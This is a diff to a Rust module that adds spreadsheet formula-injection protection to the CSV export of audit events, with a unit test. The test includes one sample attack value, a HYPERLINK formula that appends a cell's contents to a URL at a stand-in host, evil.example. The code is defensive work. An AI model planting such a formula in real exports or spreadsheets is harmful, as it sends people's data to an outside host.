@@ -1,5 +1,11 @@
 //! The CSV form of an event, shared by `trail export` and the API's export: the columns of the
 //! event JSON, with attributes and change as JSON in their cells.
+//!
+//! CSV is for spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` (or a tab or
+//! carriage return before one) as a formula: a login attempt's username could otherwise become a
+//! link that sends a row away. Every such cell is written with a leading `'` (OWASP's advice),
+//! and so is a cell that starts with `'` itself, so that reading Trail's CSV back
+//! ([`cell_value`]) gives every original value. NDJSON stays the lossless format.
 
 use crate::Event;
 use crate::time;
@@ -25,8 +31,26 @@ pub const CSV_HEADER: [&str; 18] = [
     "hash",
 ];
 
-/// One event's cells, in [`CSV_HEADER`] order.
+/// The characters that make a spreadsheet read a cell as a formula, and the quote that marks a
+/// neutralised cell.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// A cell as written: with a leading `'` when a spreadsheet would run it (see the module).
+pub fn neutralised(cell: String) -> String {
+    if cell.starts_with(FORMULA_STARTS) { format!("'{cell}") } else { cell }
+}
+
+/// A cell of Trail's CSV as the value it holds: the leading `'` [`neutralised`] added, removed.
+pub fn cell_value(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
+}
+
+/// One event's cells, in [`CSV_HEADER`] order, neutralised for spreadsheets.
 pub fn csv_fields(event: &Event) -> [String; 18] {
+    raw_fields(event).map(neutralised)
+}
+
+fn raw_fields(event: &Event) -> [String; 18] {
     let body = &event.body;
     let text = |value: &Option<String>| value.clone().unwrap_or_default();
     let json = |value: serde_json::Result<String>| value.unwrap_or_default();
@@ -50,4 +74,20 @@ pub fn csv_fields(event: &Event) -> [String; 18] {
         body.change.as_ref().map_or(String::new(), |c| json(serde_json::to_string(c))),
         event.hash.clone(),
     ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_and_read_back_whole() {
+        let attack = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+        for value in [attack, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "'quoted", "''", "plain", "", "a=b"] {
+            let cell = neutralised(value.to_owned());
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run");
+            assert_eq!(cell_value(&cell), value, "read back as written");
+        }
+        assert_eq!(neutralised("plain".into()), "plain", "ordinary cells are untouched");
+    }
 }
